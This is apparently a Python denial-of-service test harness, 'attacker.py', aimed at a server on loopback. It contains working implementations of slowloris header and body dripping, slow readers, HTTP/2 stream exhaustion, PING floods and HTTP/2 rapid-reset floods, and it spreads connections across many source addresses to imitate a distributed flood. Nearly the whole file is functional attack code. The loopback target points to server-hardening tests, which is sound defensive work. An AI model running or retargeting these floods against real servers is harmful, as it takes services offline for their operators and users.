"""Thousands of visitors who hold what they got, to one server on loopback. `attacker.py KIND HTTP HTTPS COUNT HOST`.

`attacker.py silent PORT` is an app that takes every connection and never says anything.
"""

import os
import selectors
import socket
import ssl
import sys
import time

PER_ADDRESS = 200
DRIP_SECONDS = 4
SECONDS_MAX = 600
STREAMS = 100
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING = 1, 3, 4, 6


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(stream, host, path):
    head = b"\x87\x82" + b"".join(bytes([i, len(v)]) + v.encode() for i, v in ((1, host), (4, path)))
    return frame(HEADERS, 5, stream, head)


def connect(number, port):
    """From as many addresses as a flood would come from, because one has only so many connections."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    group = number // PER_ADDRESS
    sock.bind((f"127.0.{1 + group // 250}.{1 + group % 250}", 0))
    sock.settimeout(5)
    sock.connect(("127.0.0.1", port))
    return sock


def plain(number, port, begin):
    sock = connect(number, port)
    sock.sendall(begin)
    sock.setblocking(False)
    return sock


def by_http2(number, port, host, settings, frames):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(connect(number, port), server_hostname=host)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frames)
    return sock


def hold(count, begin, drip):
    """Holds so many connections, sends a byte on each now and then, and replaces those that are closed."""
    selector = selectors.EpollSelector()
    socks = {}

    def add(number):
        try:
            socks[number] = begin(number)
            selector.register(socks[number], selectors.EVENT_READ, number)
        except OSError:
            socks.pop(number, None)

    for number in range(count):
        add(number)
    print("begun", flush=True)
    end = time.monotonic() + SECONDS_MAX
    while time.monotonic() < end:
        round_end = time.monotonic() + DRIP_SECONDS
        lost = set(range(count)) - set(socks)
        for number, sock in list(socks.items()) if drip else []:
            try:
                sock.send(drip)
            except BlockingIOError:
                pass
            except OSError:
                lost.add(number)
        while (left := round_end - time.monotonic()) > 0:
            for key, _ in selector.select(left) if drip else []:
                try:
                    if not key.fileobj.recv(4096):
                        raise OSError
                except BlockingIOError:
                    pass
                except OSError:
                    lost.add(key.data)
                    selector.unregister(key.fileobj)
            if not drip:
                time.sleep(left)
        for number in lost:
            if sock := socks.pop(number, None):
                if sock.fileno() in selector.get_map():
                    selector.unregister(sock)
                sock.close()
            add(number)


def flood(count, begin, frames):
    """Sends frames without end on so many connections, each anew when it is closed."""
    socks = [None] * count
    print("begun", flush=True)
    end = time.monotonic() + SECONDS_MAX
    turn = 0
    while time.monotonic() < end:
        for number in range(count):
            turn += 1
            try:
                if socks[number] is None:
                    socks[number] = begin(number)
                    socks[number].settimeout(0.05)
                socks[number].sendall(frames(turn))
            except OSError:
                if socks[number]:
                    socks[number].close()
                socks[number] = None


def silent(port):
    listener = socket.create_server(("127.0.0.1", port), backlog=4096)
    listener.setblocking(False)
    selector = selectors.EpollSelector()
    selector.register(listener, selectors.EVENT_READ)
    while True:
        for key, _ in selector.select():
            if key.fileobj is listener:
                connection = listener.accept()[0]
                connection.setblocking(False)
                selector.register(connection, selectors.EVENT_READ)
            else:
                try:
                    if not key.fileobj.recv(65536):
                        raise OSError
                except BlockingIOError:
                    pass
                except OSError:
                    selector.unregister(key.fileobj)
                    key.fileobj.close()


def main():
    kind = sys.argv[1]
    if kind == "silent":
        return silent(int(sys.argv[2]))
    http, https, count, host = int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    shut = b"\x00\x04" + (0).to_bytes(4, "big")
    streams = b"".join(request(1 + 2 * at, f"tls.{host}", "/large") for at in range(STREAMS))
    resets = [
        b"".join(request(at, f"tls.{host}", "/small") + frame(RST_STREAM, 0, at, b"\0\0\0\x08") for at in range(first, first + 200, 2))
        for first in range(1, 20001, 200)
    ]
    pings = frame(PING, 0, 0, b"12345678") * 200
    # One helper process for each four cores' worth would be faster; one is enough to fill a server.
    os.nice(5)
    if kind == "head":
        hold(count, lambda at: plain(at, http, f"GET / HTTP/1.1\r\nHost: {host}\r\nX: ".encode()), b"x")
    elif kind == "body":
        hold(count, lambda at: plain(at, http, f"POST / HTTP/1.1\r\nHost: app.{host}\r\nContent-Length: 999999\r\n\r\n".encode()), b"x")
    elif kind == "reader":
        hold(count, lambda at: plain(at, http, f"GET /large HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()), None)
    elif kind == "streams":
        hold(count, lambda at: by_http2(at, https, f"tls.{host}", shut, streams), None)
    elif kind == "pings":
        flood(count, lambda at: by_http2(at, https, f"tls.{host}", b"", b""), lambda _: pings)
    elif kind == "resets":
        turns = {}

        def begin(at):
            turns[at] = 0
            return by_http2(at, https, f"tls.{host}", b"", b"")

        def next_of(turn):
            at = (turn - 1) % count
            turns[at] = turns.get(at, 0) + 1
            return resets[min(turns[at] - 1, len(resets) - 1)]

        flood(count, begin, next_of)


if __name__ == "__main__":
    main()
